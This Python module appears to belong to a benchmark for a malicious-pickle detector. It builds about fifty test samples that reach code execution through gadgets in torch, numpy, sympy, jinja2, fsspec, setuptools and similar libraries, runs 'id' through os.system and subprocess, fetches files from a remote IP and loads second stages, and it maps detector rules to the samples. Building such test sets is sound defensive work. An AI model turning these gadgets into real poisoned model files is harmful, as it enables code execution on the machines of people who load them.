"""Callables of the frameworks that every loader has: torch, numpy, and what they bring along."""

from __future__ import annotations

from bench.detection.build.pickled import SYSTEM, built, caught, dropped, extended, made, printed
from bench.detection.sample import Sample
from tests.malicious.pickles import Opcodes, call, called, literal, named, stream

_ADVISORIES = "picklescan's advisories, 2025 and 2026"
_TORCH = "public lists of gadgets in torch"
_NUMPY = "public lists of gadgets in numpy"
_BROUGHT = "public lists of gadgets in torch's dependencies"
_SECOND = "second stages on disk, modelscan's documents"
_PRINT = named("builtins", "print")
_SOURCE = "import os; os.system('id')"
_HOOKS = call("collections", "OrderedDict")
_NAMESPACE = made(named("argparse", "Namespace"))


def _weak_values() -> Opcodes:
    """A mapping of weak references, each of which is a call."""
    state = {"data": {"a": printed("ran")}, "_pending_removals": [], "_iterating": Opcodes(b"\x8f")}
    return built(made(named("weakref", "WeakValueDictionary")), state)


_ROWS = (
    (
        "bottleneck_run",
        "runs source text under a profiler",
        _ADVISORIES,
        call("torch.utils.bottleneck.__main__", "run_cprofile", _SOURCE, {}),
    ),
    (
        "collect_env",
        "runs a shell line to collect the environment",
        _ADVISORIES,
        call("torch.utils.collect_env", "run", "id"),
    ),
    (
        "config_module",
        "executes a configuration",
        _ADVISORIES,
        call("torch.utils._config_module", "ConfigModule.load_config", SYSTEM, b"N."),
    ),
    (
        "dynamo_eval",
        "dynamo's guards evaluate",
        _ADVISORIES,
        call("torch._dynamo.guards", "GuardBuilder.get", SYSTEM, _SOURCE),
    ),
    (
        "jit_unpickle",
        "unpickles a script's module",
        _ADVISORIES,
        call("torch.jit.unsupported_tensor_ops", "execWrapper", _SOURCE, {}, {}),
    ),
    (
        "symbolic_eval",
        "evaluates a shape",
        _ADVISORIES,
        call("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", SYSTEM, "1", []),
    ),
    (
        "graph_module",
        "a graph's module executes the source it holds",
        _TORCH,
        call("torch.fx.graph_module", "reduce_graph_module", {"_code": _SOURCE}, ""),
    ),
    (
        "package_load",
        "a package of torch",
        _TORCH,
        call("torch.package.package_importer", "PackageImporter", "/tmp/x.pt"),
    ),
    (
        "cpp_extension",
        "compiles and loads C++",
        _TORCH,
        call("torch.utils.cpp_extension", "load_inline", "x", "int x;"),
    ),
    (
        "custom_library",
        "loads a library into torch",
        _TORCH,
        call("torch._ops", "_Ops.load_library", SYSTEM, "/tmp/x.so"),
    ),
    (
        "hub_download",
        "fetches a file",
        _TORCH,
        call("torch.hub", "download_url_to_file", "http://203.0.113.7/x", "/tmp/x"),
    ),
    ("model_zoo", "fetches weights", _TORCH, call("torch.utils.model_zoo", "load_url", "http://203.0.113.7/x")),
    ("spawn_processes", "torch's processes", _TORCH, call("torch.multiprocessing.spawn", "spawn", _PRINT, (), 1)),
    (
        "inductor_code",
        "inductor's cache of code",
        _TORCH,
        call("torch._inductor.codecache", "PyCodeCache.load", "import os"),
    ),
    ("hipify", "rewrites files", _TORCH, call("torch.utils.hipify.hipify_python", "hipify", "/tmp")),
    ("rpc_eval", "a remote call", _TORCH, call("torch.distributed.rpc.internal", "_run_function", SYSTEM)),
    (
        "elastic_launch",
        "launches programs",
        _TORCH,
        call("torch.distributed.launcher.api", "launch_agent", SYSTEM, "id", []),
    ),
    (
        "data_pipes",
        "a pipe of data that calls",
        _TORCH,
        call("torch.utils.data.datapipes.iter.callable", "MapperIterDataPipe", [1], _PRINT),
    ),
    (
        "collate",
        "a loader of data that calls",
        _TORCH,
        call("torch.utils.data.dataloader", "DataLoader", ["x"], None, None, None, None, 0, _PRINT),
    ),
    (
        "checkpoint_call",
        "checkpoint calls what it is given",
        _TORCH,
        call("torch.utils.checkpoint", "checkpoint", _PRINT, "ran"),
    ),
    ("vmapped", "vmap calls what it is given", _TORCH, called(call("torch._functorch.apis", "vmap", _PRINT), "ran")),
    (
        "parametrized",
        "a hook of a module, called when it is filled",
        _TORCH,
        extended(
            built(
                made(named("torch.nn.modules.container", "ModuleList")),
                {"_modules": {}, "append": printed("ran"), "extend": printed("ran")},
            ),
            "x",
        ),
    ),
    (
        "tensor_hooks",
        "a function among a tensor's hooks",
        _TORCH,
        call(
            "torch._utils",
            "_rebuild_parameter_with_state",
            Opcodes(b"N"),
            False,
            _HOOKS,
            {"_backward_hooks": {0: named("posix", "system")}},
        ),
    ),
    (
        "type_of_call",
        "a tensor's type, made by a command",
        _TORCH,
        call("torch._tensor", "_rebuild_from_type_v2", named("posix", "system"), named("torch", "Tensor"), ("id",), {}),
    ),
    (
        "type_of_bound",
        "a tensor's type by a partial",
        _TORCH,
        call(
            "torch._tensor",
            "_rebuild_from_type_v2",
            call("functools", "partial", named("posix", "system"), "id"),
            named("torch", "Tensor"),
            (),
            {},
        ),
    ),
    (
        "wrapper_type",
        "a wrapper's class of the file's choice",
        _TORCH,
        call(
            "torch._utils",
            "_rebuild_wrapper_subclass",
            named("subprocess", "Popen"),
            named("torch", "float32"),
            (1,),
            (1,),
            0,
            "strided",
            "cpu",
            False,
        ),
    ),
    (
        "shared_storage",
        "a storage in another's memory",
        _TORCH,
        call(
            "torch.multiprocessing.reductions",
            "rebuild_storage_filename",
            named("torch", "UntypedStorage"),
            b"x",
            b"y",
            8,
        ),
    ),
    ("saved", "writes a file", _TORCH, call("torch", "save", {"a": 1}, "/tmp/owned")),
    ("second_torch", "torch.load of a second stage", _SECOND, call("torch", "load", "/tmp/stage2.pt")),
    ("second_numpy", "numpy.load of a second stage", _SECOND, call("numpy", "load", "/tmp/stage2.npy", None, True)),
    (
        "second_joblib",
        "joblib.load of a second stage",
        _SECOND,
        call("joblib.numpy_pickle", "load", "/tmp/stage2.joblib"),
    ),
    (
        "second_pandas",
        "pandas.read_pickle of a second stage",
        _SECOND,
        call("pandas.io.pickle", "read_pickle", "/tmp/stage2.pkl"),
    ),
    ("second_dill", "dill.load_module of a second stage", _SECOND, call("dill", "load_module", "/tmp/stage2.pkl")),
    (
        "run_string",
        "numpy's tests run source text",
        _NUMPY,
        call("numpy.testing._private.utils", "runstring", _SOURCE, {}),
    ),
    (
        "crack_fortran",
        "f2py evaluates",
        "CVE-2026 advisories of picklescan: numpy.f2py",
        call("numpy.f2py.crackfortran", "getlincoef", _SOURCE, {}),
    ),
    ("f2py_compile", "f2py compiles", _NUMPY, call("numpy.f2py", "compile", "x")),
    ("numpy_ctypes", "numpy loads a library", _NUMPY, call("numpy.ctypeslib", "load_library", "x", "/tmp")),
    ("numpy_vectorize", "numpy.vectorize calls", _NUMPY, called(call("numpy", "vectorize", _PRINT), ["ran"])),
    ("numpy_function", "numpy.fromfunction calls", _NUMPY, call("numpy", "fromfunction", _PRINT, (1,))),
    ("numpy_memory_map", "maps a file for writing", _NUMPY, call("numpy", "memmap", "/tmp/owned", "u1", "w+", 0, (8,))),
    ("weak_values", "a walk through weak references that are calls", _TORCH, call("numpy", "array", _weak_values())),
    ("sympify", "sympy evaluates", _BROUGHT, call("sympy.core.sympify", "sympify", _SOURCE)),
    ("template", "jinja2's template", _BROUGHT, call("jinja2.environment", "Template", "{{ 1 }}")),
    ("native_template", "jinja2's native types evaluate", _BROUGHT, call("jinja2.nativetypes", "native_concat", ["1"])),
    ("fsspec_open", "fsspec opens anything", _BROUGHT, call("fsspec.core", "open", "http://203.0.113.7/x")),
    ("fsspec_class", "fsspec imports a class", _BROUGHT, call("fsspec.registry", "_import_class", "os.system")),
    (
        "graph_dispatch",
        "networkx's decorators compile source",
        _BROUGHT,
        call("networkx.utils.decorators", "argmap.compile", SYSTEM, _PRINT),
    ),
    ("mpmath_exec", "mpmath's exec", _BROUGHT, call("mpmath.libmp.backend", "exec_", _SOURCE, {})),
    ("mpmath_timing", "mpmath times source", _BROUGHT, call("mpmath", "timing", _PRINT)),
    ("file_lock", "filelock makes a file", _BROUGHT, call("filelock", "FileLock", "/tmp/owned")),
    (
        "typing_eval",
        "typing_extensions evaluates annotations",
        _BROUGHT,
        call("typing_extensions", "get_type_hints", named("argparse", "Namespace")),
    ),
    ("psutil_program", "psutil's Popen", _BROUGHT, call("psutil", "Popen", ["id"])),
    (
        "setuptools_run",
        "setuptools runs a script",
        _BROUGHT,
        call("setuptools.sandbox", "run_setup", "/tmp/setup.py", []),
    ),
    (
        "finalized_pipe",
        "an object of os, dropped",
        _BROUGHT,
        dropped(built(made(named("subprocess", "Popen")), {"returncode": 1})),
    ),
    (
        "torch_stream",
        "a torch archive's bytes with a command inside",
        _TORCH,
        call("torch.storage", "_load_from_bytes", stream(literal(1)) + stream(SYSTEM)),
    ),
)

_CAUGHT = (
    ("global.applier.called", "", "checkpoint_call vmapped numpy_function"),
    ("global.result.called", "", "numpy_vectorize"),
    ("global.dangerous.called", "event.write load.failed", "dynamo_eval inductor_code"),
    ("global.code.carried", "", "graph_module"),
    ("global.type.called", "", "collate"),
    ("global.type.filled oddity.order oddity.shadow", "", "parametrized"),
    ("global.dangerous.passed reader.incomplete", "", "tensor_hooks"),
    ("global.dangerous.called", "event.fork event.program load.failed", "type_of_call"),
    ("global.dangerous.passed global.result.called reader.incomplete", "", "type_of_bound"),
    ("global.dangerous.passed", "", "wrapper_type"),
    ("global.dangerous.called", "event.fork event.program", "run_string"),
    ("global.constructor.walks", "", "weak_values"),
    ("global.dangerous.named oddity.spliced", "", "finalized_pipe"),
    ("global.dangerous.called oddity.behind", "", "torch_stream"),
)

SAMPLES: tuple[Sample, ...] = caught(_ROWS, _CAUGHT)
